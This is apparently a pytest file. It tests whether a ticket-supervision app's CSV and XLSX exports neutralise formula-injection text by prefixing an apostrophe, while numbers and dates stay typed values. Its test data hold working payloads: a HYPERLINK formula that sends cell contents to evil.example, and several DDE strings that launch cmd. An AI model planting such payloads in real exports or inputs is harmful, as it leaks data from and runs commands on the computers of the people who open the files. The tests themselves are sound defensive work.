"""Exports never hand a spreadsheet a live formula (issue 12, finding 2).

Text typed by others (descriptions, addresses, department, category and area names) that starts
like a formula comes back from every CSV and XLSX export with a leading apostrophe; no XLSX cell
is a formula; numbers and times stay typed values; a control character does not break an export.
"""
from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
from openpyxl import load_workbook

from app.extensions import db
from app.services.supervision import exports
from tests.factories import SEAT

# Each starts as a spreadsheet may read a formula (OWASP, and the fullwidth forms Excel and WPS read).
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?d="&A3,"查看详情")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
DEPARTMENT = {"zh_CN": '=HYPERLINK("http://evil.example","城管执法局")', "en": "=1+2 Urban Management"}
CATEGORY = {"zh_CN": "+乱扔垃圾", "en": "+Litter"}
AREA = {"zh_CN": "-城关镇", "en": "@Chengguan"}
LANGS = ["zh_CN", "en"]

# Ticket export columns (exports.ticket_header()).
CASE, CATEGORY_COL, DEPARTMENT_COL, AREA_COL, ADDRESS, LAT, LON, RECEIVED, TIMES_REPORTED, DESCRIPTION = (
    0, 2, 3, 4, 5, 6, 7, 8, 14, 16)


@pytest.fixture
def supervisor_client(county, create_user, login):
    return login(create_user("supervisor"))


@pytest.fixture
def hostile(county, report):
    """A ticket per dangerous text (as its description and address), its department, category and
    area renamed to start like formulas. Returns {case number: text}."""
    made = {}
    for i, text in enumerate(DANGEROUS):
        ticket = report(at=(SEAT[0] + 0.001 * i, SEAT[1])).ticket  # 110 m apart: no repeats
        ticket.description = text
        ticket.address = text
        made[ticket.case_number] = (text, ticket)
    assert len(made) == len(DANGEROUS)
    ticket = next(iter(made.values()))[1]
    assert ticket.department is not None and ticket.area is not None
    ticket.department.name_zh, ticket.department.name_en = DEPARTMENT["zh_CN"], DEPARTMENT["en"]
    ticket.category.name_zh, ticket.category.name_en = CATEGORY["zh_CN"], CATEGORY["en"]
    ticket.area.name_zh, ticket.area.name_en = AREA["zh_CN"], AREA["en"]
    db.session.commit()
    return {case: text for case, (text, _ticket) in made.items()}


def _xlsx_cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(cells) -> None:
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_STARTS), (cell.coordinate, cell.value)


def _csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    text = response.get_data().decode("utf-8")
    assert text.startswith(exports.CSV_BOM)  # Excel reads UTF-8 CSV as Chinese only with the BOM
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def _escaped(text: str) -> str:
    return "'" + text


@pytest.mark.parametrize("lang", LANGS)
def test_ticket_export_xlsx_holds_no_formula_and_escapes_every_dangerous_text(hostile, supervisor_client, lang):
    response = supervisor_client.get(f"/supervise/export.xlsx?lang={lang}")
    assert response.status_code == 200
    cells = _xlsx_cells(response.data)
    _assert_no_formula(cells)
    sheet = load_workbook(io.BytesIO(response.data)).worksheets[0]
    rows = {row[CASE].value: row for row in sheet.iter_rows(min_row=3)}
    assert set(rows) == set(hostile)
    for case, text in hostile.items():
        row = rows[case]
        # XML turns a carriage return into a line feed on reading; the apostrophe comes first either way.
        expected = _escaped(text).replace("\r", "\n")
        assert row[DESCRIPTION].value.replace("\r", "\n") == expected
        assert row[ADDRESS].value.replace("\r", "\n") == expected
        assert row[DESCRIPTION].data_type == "s" and row[ADDRESS].data_type == "s"
    first = rows[next(iter(hostile))]
    assert first[DEPARTMENT_COL].value == _escaped(DEPARTMENT[lang])
    assert first[CATEGORY_COL].value == _escaped(CATEGORY[lang])
    assert first[AREA_COL].value == _escaped(AREA[lang])


@pytest.mark.parametrize("lang", LANGS)
def test_ticket_export_csv_escapes_every_dangerous_text(hostile, supervisor_client, lang):
    rows = _csv_rows(supervisor_client.get(f"/supervise/export.csv?lang={lang}"))
    header, body = rows[0], {row[CASE]: row for row in rows[1:]}
    assert header[0] == ("Case number" if lang == "en" else "工单编号")
    assert set(body) == set(hostile)
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_STARTS), value
    for case, text in hostile.items():
        assert body[case][DESCRIPTION] == _escaped(text)
        assert body[case][ADDRESS] == _escaped(text)
    first = body[next(iter(hostile))]
    assert first[DEPARTMENT_COL] == _escaped(DEPARTMENT[lang])
    assert first[CATEGORY_COL] == _escaped(CATEGORY[lang])
    assert first[AREA_COL] == _escaped(AREA[lang])


@pytest.mark.parametrize("lang", LANGS)
def test_ranking_xlsx_names_a_dangerous_department_as_text(hostile, supervisor_client, lang):
    response = supervisor_client.get(f"/supervise/ranking.xlsx?days=30&lang={lang}")
    assert response.status_code == 200
    _assert_no_formula(_xlsx_cells(response.data))
    sheet = load_workbook(io.BytesIO(response.data)).active
    names = [row[1] for row in sheet.iter_rows(min_row=3) if row[1].value is not None]  # not the formula
    assert _escaped(DEPARTMENT[lang]) in [cell.value for cell in names]
    assert all(cell.data_type == "s" for cell in names)
    ranks = [row[0] for row in sheet.iter_rows(min_row=3) if row[1].value]
    assert all(cell.data_type == "n" or cell.value == "样本不足" or cell.value == "Too few tickets" for cell in ranks)


@pytest.mark.parametrize("lang", LANGS)
def test_ranking_csv_names_a_dangerous_department_as_text(hostile, supervisor_client, lang):
    rows = _csv_rows(supervisor_client.get(f"/supervise/ranking.csv?days=30&lang={lang}"))
    assert _escaped(DEPARTMENT[lang]) in [row[1] for row in rows[1:]]
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_STARTS), value
    assert all(row[0].isdigit() or row[0] in ("样本不足", "Too few tickets") for row in rows[1:])


def test_numbers_and_times_stay_typed_while_text_that_looks_like_a_number_is_escaped(
        county, report, supervisor_client):
    ticket = report(at=(40.7, -74.0), description="-12.5").ticket  # west of Greenwich: a negative longitude
    ticket.address = "-3"
    db.session.commit()
    sheet = load_workbook(io.BytesIO(supervisor_client.get("/supervise/export.xlsx").data)).worksheets[0]
    row = next(sheet.iter_rows(min_row=3))
    assert row[DESCRIPTION].value == "'-12.5" and row[ADDRESS].value == "'-3"
    assert row[LON].value == pytest.approx(-74.0) and row[LON].data_type == "n"
    assert row[LAT].value == pytest.approx(40.7) and row[LAT].data_type == "n"
    assert row[TIMES_REPORTED].value == 1 and row[TIMES_REPORTED].data_type == "n"
    assert isinstance(row[RECEIVED].value, datetime) and row[RECEIVED].is_date

    (record,) = _csv_rows(supervisor_client.get("/supervise/export.csv"))[1:]
    assert record[DESCRIPTION] == "'-12.5" and record[ADDRESS] == "'-3"
    assert float(record[LON]) == pytest.approx(-74.0)
    assert record[TIMES_REPORTED] == "1"
    assert datetime.strptime(record[RECEIVED], "%Y-%m-%d %H:%M") == row[RECEIVED].value


def test_a_negative_change_in_the_ranking_stays_a_number(app):
    from datetime import date

    from app.models import Department
    from app.services.supervision.kpis import Period
    from app.services.supervision.ranking import Counts, Ranking, RankingRules, RankRow

    department = Department(code="EVIL", name_zh="-城管", name_en="-Urban")
    worse = RankRow(department, Counts(n=4, on_time=1, resolved=2), score=42.26, grade="D", rank=1,
                    previous_score=92.26)  # 50 points fewer than before
    ranking = Ranking(Period.of_local_dates(date(2026, 6, 1), date(2026, 6, 7)), RankingRules(), [worse])
    with app.test_request_context("/?lang=en"):
        sheet = load_workbook(io.BytesIO(exports.ranking_xlsx(ranking, "=title", "=formula"))).active
        text = exports.ranking_csv(ranking)
    row = sheet[3]
    assert sheet["A1"].value == "'=title" and sheet["A1"].data_type == "s"
    assert row[1].value == "'-Urban"
    assert row[11].value == -50.0 and row[11].data_type == "n" and row[11].number_format == "+0.0;-0.0;0.0"
    assert row[3].value == 0.25 and row[3].data_type == "n" and row[3].number_format == "0.0%"
    assert row[9].value == 42.3 and row[9].data_type == "n"
    record = list(csv.reader(io.StringIO(text[1:])))[1]
    assert record[1] == "'-Urban"
    assert record[11] == "-50.0"  # a number, not escaped text
    assert record[3] == "25.0%"



@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_a_control_character_does_not_break_an_export(county, report, supervisor_client, fmt):
    ticket = report(description="x").ticket
    ticket.description = "\x0b=1+1\x01 垃圾\x1f"  # stripped first, then the formula start is escaped
    ticket.address = "南门\x07路"
    ticket.department.name_zh = ticket.department.name_en = "城管\x08执法"
    db.session.commit()
    response = supervisor_client.get(f"/supervise/export.{fmt}")
    assert response.status_code == 200
    if fmt == "xlsx":
        cells = _xlsx_cells(response.data)
        _assert_no_formula(cells)
        values = [cell.value for cell in load_workbook(io.BytesIO(response.data)).worksheets[0][3]]
    else:
        values = _csv_rows(response)[1]
    assert values[DESCRIPTION] == "'=1+1 垃圾"
    assert values[ADDRESS] == "南门路"
    assert values[DEPARTMENT_COL] == "城管执法"
    ranking = supervisor_client.get(f"/supervise/ranking.{fmt}")
    assert ranking.status_code == 200
    names = ([row[1] for row in load_workbook(io.BytesIO(ranking.data)).active.iter_rows(min_row=3, values_only=True)]
             if fmt == "xlsx" else [row[1] for row in _csv_rows(ranking)[1:]])
    assert "城管执法" in names


@pytest.mark.parametrize(("value", "cell"), [
    *[(text, "'" + text) for text in DANGEROUS],
    ("=", "'="), ("-", "'-"),
    ("\x0b=1+1", "'=1+1"),  # what XML cannot carry goes first, then the start is checked
    ("城管执法局", "城管执法局"), ("1-2", "1-2"), ("a=b", "a=b"), ("'=1+1", "'=1+1"), (" =1", " =1"), ("", ""),
])
def test_the_cell_rule(value, cell):
    from app.services.supervision.spreadsheet_cells import spreadsheet_text

    assert spreadsheet_text(value) == cell
